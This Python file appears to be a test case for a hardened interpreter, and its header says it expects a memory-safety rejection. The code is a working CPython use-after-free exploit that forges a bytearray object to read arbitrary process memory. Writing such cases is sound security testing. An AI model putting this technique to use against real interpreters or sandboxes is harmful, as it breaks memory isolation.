# expect: reject memory
# line: 16
# why: round 67: library comparisons written in Python run the program's code with no comparison dunder of its own (Fraction reads a number subclass's numerator, imag, as_integer_ratio; ChainMap's Mapping.__eq__ iterates its maps; a dataclass's generated __eq__ reads a property field); a True answer lets the tuple compare of gh-120298/gh-115243 go on reading the freed tuple (raw memory under 3.11.2)
import collections
import fractions

keep = []
dq = collections.deque()
state = {"n": 0, "payload": b""}
N = 25


class Source:
    """a plain mapping-like object for a ChainMap: its iteration is ChainMap's"""
    def __iter__(self):
        state["n"] += 1
        if state["n"] == 1:
            dq.clear()
            keep.append(bytearray(state["payload"]))
        return iter(["k"])

    def __getitem__(self, key):
        return 1

    def __len__(self):
        return 1


class I(int):
    __slots__ = ()

    @property
    def numerator(self):
        keep.append(self)
        return 7


def w8(v):
    return v.to_bytes(8, "little")


dq.append(tuple([collections.ChainMap(Source()), 0] + [0] * (N - 2)))
fake = id(dq[0]) + 48
# buffer[i] is block+i; the tuple is block+16, its slot 1 block+48; a fake I at block+64
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(I), 1, 2]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([collections.ChainMap(Source()), fractions.Fraction(1)] + [0] * (N - 2)))
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print(len(keep), [type(k).__name__ for k in keep])
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = keep[1]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
